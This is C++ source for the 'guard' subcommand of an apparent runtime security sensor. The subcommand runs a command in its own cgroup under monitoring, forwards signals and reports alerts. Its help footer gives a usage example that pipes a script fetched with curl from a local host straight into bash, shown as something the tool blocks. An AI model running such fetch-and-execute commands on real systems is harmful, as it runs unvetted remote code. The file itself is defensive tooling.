// SPDX-License-Identifier: Apache-2.0
// davylamp guard: one command in a cgroup of its own under the sensor.
#include <signal.h>
#include <sys/signalfd.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <memory>
#include <optional>

#include "base/clock.h"
#include "base/files.h"
#include "cli/child.h"
#include "cli/commands.h"
#include "monitor/stop_signals.h"
#include "sensor/cgroup.h"
#include "sensor/host.h"
#include "sensor/pins.h"

namespace davylamp {

namespace {

struct GuardOptions {
    PolicyOptions policy;
    OutputOptions output;
    MonitorOptions monitor;
    double linger_s = 10;
    bool quiet = false;
    std::vector<std::string> command;
};

// The command's own end, with signals that were meant for it passed on.
int wait_for_command(Monitor& monitor, Child& child, int signals)
{
    int status = 0;
    std::vector<pollfd> also{{child.pidfd.get(), POLLIN, 0}, {signals, POLLIN, 0}};
    for (;;) {
        monitor.turn(-1, also);
        if (also[1].revents & POLLIN) {
            signalfd_siginfo info;
            // SIGINT from the terminal has reached the command by itself.
            if (::read(signals, &info, sizeof info) == sizeof info && info.ssi_signo != SIGINT)
                ::kill(child.pid, static_cast<int>(info.ssi_signo));
        }
        if (::waitpid(child.pid, &status, WNOHANG) == child.pid)
            return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
    }
}

// What the command left behind (& disown, daemons) is watched a while longer.
void wait_for_rest(Monitor& monitor, const GuardCgroup& cgroup, int signals, double linger_s)
{
    std::vector<pollfd> also{{signals, POLLIN, 0}};
    std::int64_t end = clock_ns(CLOCK_MONOTONIC) + static_cast<std::int64_t>(linger_s * 1e9);
    while (!cgroup.empty() && clock_ns(CLOCK_MONOTONIC) < end && !(also[0].revents & POLLIN))
        monitor.turn(20, also);
}

void summarize(const GuardOptions& options, const Monitor& monitor, int status)
{
    const EngineCounts& counts = monitor.counts();
    std::string said = std::to_string(monitor.alerts()) + " alert(s); " +
                       std::to_string(counts.execs) + " execs, " + std::to_string(counts.forks) +
                       " forks";
    // Only a recording asks the kernel for the connects that are no finding.
    if (!options.monitor.record.empty())
        said += ", " + std::to_string(counts.connects) + " connects";
    note(said + " watched; the command's status was " + std::to_string(status));
}

int guard(const GuardOptions& options)
{
    auto policy = effective_policy(options.policy, Trust::ours);
    if (!policy)
        return complain(policy.error(), kExitUsage);
    auto pools = PoolWatch::open(*policy);
    if (!pools)
        return complain(pools.error(), kExitUsage);
    if (auto host = require_host(); !host)
        return complain(host.error());
    if (auto removed = remove_the_dead(); !removed)
        return complain(removed.error());

    auto stop = StopSignals::open();
    if (!stop)
        return complain(stop.error());

    auto cgroup = GuardCgroup::create();
    if (!cgroup)
        return complain(cgroup.error());
    MonitorOptions monitor_options = options.monitor;
    monitor_options.format = options.output.value();
    monitor_options.scope = cgroup->path();
    std::optional<Instance> instance;
    if (auto bpffs = ensure_bpffs(); !bpffs) {
        note("nothing is pinned, so enforcement ends with this process: " + bpffs.error().text());
    } else {
        auto made = Instance::create("guard", cgroup->id());
        if (!made)
            return complain(made.error());
        instance.emplace(std::move(*made));
        monitor_options.pin_folder = instance->folder();
    }
    auto monitor = Monitor::start(*policy, std::move(*pools), monitor_options);
    if (!monitor)
        return complain(monitor.error());

    auto child = spawn(options.command, stop->before());
    if (!child)
        return complain(child.error());
    if (auto added = cgroup->add(child->pid); !added) {
        give_up(*child);
        return complain(added.error());
    }
    auto exec_error = let_go(*child);
    if (!exec_error)
        return complain(exec_error.error());
    if (*exec_error != 0)
        return complain({options.command[0], "cannot be run: " + errno_text(*exec_error),
                         "name a program that PATH finds"},
                        127);

    int status = wait_for_command(**monitor, *child, stop->fd());
    wait_for_rest(**monitor, *cgroup, stop->fd(), options.linger_s);
    std::size_t left = cgroup->processes().size();
    auto finished = (*monitor)->finish();
    const bool certain = (*monitor)->counts().certain > 0;
    if (left > 0)
        note(std::to_string(left) + " process(es) of the command still run and are watched no "
                                    "longer (--linger waits for them)");
    if (!options.quiet)
        summarize(options, **monitor, status);
    monitor->reset();
    if (!finished)
        return complain(finished.error());
    return certain ? kExitAlert : status;
}

} // namespace

Command declare_guard(CLI::App& app)
{
    auto options = std::make_shared<GuardOptions>();
    add_policy_options(app, options->policy);
    add_evidence_option(app, options->policy);
    add_output_options(app, options->output);
    app.add_option("--record", options->monitor.record,
                   "Write every record to a new file, for replay")
        ->type_name("FILE");
    app.add_option("--linger", options->linger_s,
                   "Watch what the command leaves behind for so many seconds")
        ->check(CLI::Range(0.0, 86400.0))
        ->capture_default_str();
    app.add_flag("--quiet", options->quiet, "No summary on stderr");
    app.add_flag("--best-effort", options->monitor.best_effort,
                 "Start although a program cannot be attached");
    app.add_option("command", options->command, "The command and its arguments, after --")
        ->required()
        ->type_name("CMD...");
    app.positionals_at_end();
    app.footer(
        "Exits with the command's status, or 86 when a certain alert fired. Only the command's "
        "own\n"
        "cgroup is watched and enforced in.\n"
        "  davylamp guard --mode block -- bash -c 'curl -s http://127.0.0.1:8000/x.sh | bash'");
    return [options] { return guard(*options); };
}

} // namespace davylamp
